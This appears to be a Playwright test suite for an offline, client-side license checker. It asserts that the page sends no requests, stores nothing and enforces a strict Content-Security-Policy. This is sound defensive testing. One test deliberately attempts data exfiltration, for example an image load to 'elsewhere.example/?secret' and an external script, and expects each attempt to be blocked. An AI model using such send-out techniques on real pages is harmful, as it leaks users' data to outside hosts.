// Nothing leaves the page: no request, nothing stored, nothing in the address, and no way to do any of it.
import { isBlank, jwt, publicKey, valid, vector, vectorNames } from "../support/bundles.mjs";
import { expect, test } from "../support/test.mjs";

// Attacks, names with markup in them, keys that point elsewhere, and some of everything else.
const hostile = vectorNames.filter((name) => /^attack|hostile|^header|^key-is/.test(name));
const others = vectorNames.filter((name, index) => !hostile.includes(name) && index % 10 === 0);
const sample = [...hostile, ...others].map((name) => vector(name).bytes).filter((bytes) => !isBlank(bytes));

test("a hundred bundles, hostile ones among them: no request, nothing stored, the address unchanged", async ({ checker, page, context, complaints }) => {
  expect(sample.length).toBeGreaterThanOrEqual(100);
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await page.addInitScript(() => {
    window.stored = [];
    for (const name of ["setItem", "removeItem", "clear"]) {
      Storage.prototype[name] = () => window.stored.push(name);
    }
    IDBFactory.prototype.open = () => window.stored.push("indexedDB");
    const cookie = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
    Object.defineProperty(Document.prototype, "cookie", { get: cookie.get, set: () => window.stored.push("cookie") });
    window.violations = [];
    addEventListener("securitypolicyviolation", ({ violatedDirective }) => window.violations.push(violatedDirective));
  });
  await checker.open();

  // From here on, whatever the browser sends is counted: by its own network log, not by the page.
  const session = await context.newCDPSession(page);
  const requests = [];
  session.on("Network.requestWillBeSent", ({ request }) => requests.push(request.url));
  session.on("Network.webSocketCreated", ({ url }) => requests.push(url));
  await session.send("Network.enable");
  context.on("request", (request) => requests.push(request.url()));
  const address = page.url();

  await checker.dropAll(sample);
  for (const bytes of sample.slice(0, 20)) await checker.paste(bytes.toString());
  await checker.drop({ name: "new.json", text: valid }, { name: "old.json", bytes: sample[0] });
  await checker.button("Copy summary").click();
  await expect(checker.notice).toHaveText(/^Summary copied/);
  await checker.button("Copy fingerprint").click();
  await expect(checker.notice).toHaveText("Fingerprint copied.");
  await checker.paste(jwt);
  await checker.key.fill(publicKey);
  await expect(checker.headline).toHaveText(/^Undamaged/);

  expect(requests).toEqual([]);
  expect(await page.evaluate(() => [window.stored, window.violations])).toEqual([[], []]);
  expect(await context.cookies()).toEqual([]);
  expect(await page.evaluate(async () => ({
    local: localStorage.length, session: sessionStorage.length, databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length, workers: (await navigator.serviceWorker.getRegistrations()).length, history: history.length,
  }))).toEqual({ local: 0, session: 0, databases: 0, caches: 0, workers: 0, history: expect.any(Number) });
  expect(page.url()).toBe(address);
  expect(complaints).toEqual([]);
});

test("the checker works with the network off", async ({ checker, context }) => {
  await checker.open();
  await context.setOffline(true);
  await checker.drop({ name: "license.json", text: valid });
  await expect(checker.headline).toHaveText("Undamaged, and valid for 365 more days");
  await checker.button("Compare with the current one").click();
  await checker.current.fill(valid);
  await expect(checker.table).toBeVisible();
  await checker.button("Clear").click();
  await expect(checker.verdict).toHaveText("");
});

test("the page's policy forbids every connection and every inline script", async ({ checker, page, host }) => {
  const response = await page.goto(checker.address);
  const policy = host === "static"
    ? await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content")
    : response.headers()["content-security-policy"];
  const directives = Object.fromEntries(policy.split(";").map((directive) => directive.trim().split(/ (.*)/)));
  expect(directives).toMatchObject({
    "default-src": "'none'", "script-src": host === "static" ? "'self' 'wasm-unsafe-eval'" : expect.stringMatching(/^'nonce-[\w-]{22}' 'wasm-unsafe-eval'$/), "connect-src": "'none'", "form-action": "'none'", "base-uri": "'none'",
  });
  expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|\*|https?:/);
});

test("whatever tries to send something is blocked", async ({ checker, page, complaints }) => {
  await checker.open();
  const requests = [];
  page.on("request", (request) => requests.push(request));
  const outcomes = await page.evaluate(async () => {
    const here = location.href;
    const settled = (attempt) => attempt().then(() => "sent", () => "blocked");
    const opened = (target) => new Promise((done) => {
      target.onopen = target.onload = () => done("sent");
      target.onerror = () => done("blocked");
    });
    const violated = (attempt) => new Promise((done) => {
      addEventListener("securitypolicyviolation", () => done("blocked"), { once: true });
      attempt();
      setTimeout(done, 2000, "sent");
    });
    const inserted = (tag, attributes) => {
      const element = Object.assign(document.createElement(tag), attributes);
      document.body.append(element);
      return opened(element);
    };
    return {
      fetch: await settled(() => fetch(here)),
      beacon: await violated(() => navigator.sendBeacon(here, "x")),
      xhr: await violated(() => {
        const request = new XMLHttpRequest();
        request.open("POST", here);
        request.send("x");
      }),
      socket: await opened(new WebSocket(here.replace("http", "ws"))),
      events: await opened(new EventSource(here)),
      image: await inserted("img", { src: "https://elsewhere.example/?secret" }),
      script: await inserted("script", { src: "https://elsewhere.example/" }),
      inline: await violated(() => document.body.append(Object.assign(document.createElement("script"), { textContent: "0" }))),
      evaluated: await settled(async () => new Function("return 0")),
      form: await violated(() => {
        const form = Object.assign(document.createElement("form"), { action: here, method: "post" });
        document.body.append(form);
        form.submit();
      }),
    };
  });
  expect(outcomes).toEqual(Object.fromEntries(Object.keys(outcomes).map((way) => [way, "blocked"])));
  const reasons = requests.map((request) => `${request.url()} ${request.failure()?.errorText}`);
  expect(reasons.filter((reason) => !reason.endsWith(" csp"))).toEqual([]);
  complaints.length = 0; // the browser reports each of them
});

test("the page says how many requests it made", async ({ checker, page }) => {
  await checker.open();
  await checker.paste(valid);
  await expect(page.getByText("0 requests since this page was loaded.")).toBeVisible();
});
